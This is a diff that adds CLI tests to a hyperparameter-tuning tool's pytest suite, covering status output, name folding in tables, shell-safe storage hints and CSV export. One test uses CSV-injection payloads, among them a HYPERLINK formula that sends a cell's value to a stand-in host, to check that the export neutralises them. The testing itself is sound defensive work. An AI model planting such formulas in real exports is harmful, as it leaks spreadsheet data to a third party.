@@ -1,17 +1,22 @@
 """Every input gets a clear answer: one line naming the problem and what is allowed (exit 2), or it works."""
 
+import csv
+import io
+import os
 import re
+import shlex
 import subprocess
 import sys
 from importlib.metadata import version
 
 import pytest
 import typer
+import yaml
 from click.testing import Result
 from typer.testing import CliRunner
 
 from tests.helpers import REPO, TINY
-from tuner import cli
+from tuner import cli, report
 from tuner.spec import parse_experiment
 from tuner.storage.store import Store
 from tuner.tasks import TASKS
@@ -75,6 +80,53 @@ def test_best_without_a_name_on_an_empty_storage_gives_lists_hint(tmp_path) -> N
     assert one_error_line(invoke("best", "--storage", url)) == cli.NO_EXPERIMENTS
     listing = invoke("list", "--storage", url)
     assert listing.exit_code == 0 and listing.stdout == cli.NO_EXPERIMENTS + "\n"
+
+
+def test_status_without_a_name_shows_the_only_experiment_as_best_does(tmp_path) -> None:
+    url = storage_with(tmp_path, "solo")
+    result = invoke("status", "--storage", url)
+    assert result.exit_code == 0 and result.stdout.startswith("experiment solo on softmax; objective "), result.output
+    several = storage_with(tmp_path, "other")
+    assert one_error_line(invoke("status", "--storage", several)) == (
+        "EXPERIMENT is needed: this storage holds 2 experiments; allowed: 'solo', 'other'")
+    (tmp_path / "empty").mkdir()
+    assert one_error_line(invoke("status", "--storage", storage_with(tmp_path / "empty"))) == cli.NO_EXPERIMENTS
+
+
+def test_list_folds_a_long_name_instead_of_cutting_it(tmp_path, monkeypatch) -> None:
+    """A name in the table can be copied whole: folded onto more lines, never ended with …."""
+    name = "long-" + "n" * 120 + "-end"
+    monkeypatch.setattr(cli.console, "width", 80)
+    result = invoke("list", "--storage", storage_with(tmp_path, name))
+    assert result.exit_code == 0 and "…" not in result.stdout, result.stdout
+    first_column = "".join(line.split("│")[1].strip() for line in result.stdout.splitlines()[3:-1])
+    assert first_column == name, result.stdout
+
+
+@pytest.mark.parametrize("name", ["=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)"])
+def test_best_csv_quotes_a_name_a_spreadsheet_would_run(name) -> None:
+    """OWASP's CSV injection rule: a text cell starting with = + - or @ gets a leading '; numbers do not."""
+    row = {column: None for column in report.CSV_COLUMNS} | {
+        "experiment": name, "optimizer": "sgd", "sampler": "tpe", "repeat": 0, "trial_number": 3,
+        "trial_objective": -1.5, "params": {"lr": 0.1}}
+    (written,) = csv.DictReader(io.StringIO(report.best_as_csv([row]), newline=""))
+    assert written["experiment"] == f"'{name}" and written["optimizer"] == "sgd"
+    assert written["trial_objective"] == "-1.5" and written["reeval_mean"] == "" and written["config"] == '{"lr": 0.1}'
+
+
+def test_the_launchs_closing_hints_paste_into_a_shell(postgres_url, tmp_path) -> None:
+    """The storage quoted for a shell (a query's & would end the command there), each hint on one
+    line even in an 80-column terminal."""
+    url = f"{postgres_url}?application_name=tuner&connect_timeout=5"
+    study = tmp_path / "tiny.yaml"
+    study.write_text(yaml.safe_dump({**TINY, "trials": 2, "optimizers": ["sgd"], "samplers": ["random"],
+                                     "reevaluate": 0}))
+    result = subprocess.run([sys.executable, "-m", "tuner", "launch", str(study), "--workers", "1", "--storage", url],
+                            cwd=tmp_path, capture_output=True, text=True, timeout=300,
+                            env={**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "80"})
+    assert result.returncode == 0, result.stdout + result.stderr
+    hints = [shlex.split(line) for line in result.stdout.splitlines() if "--storage" in line]
+    assert [hint[-3:] for hint in hints] == [["tiny", "--storage", url], ["dashboard", "--storage", url]], hints
 
 
 @pytest.mark.parametrize(("option", "value", "allowed"), [
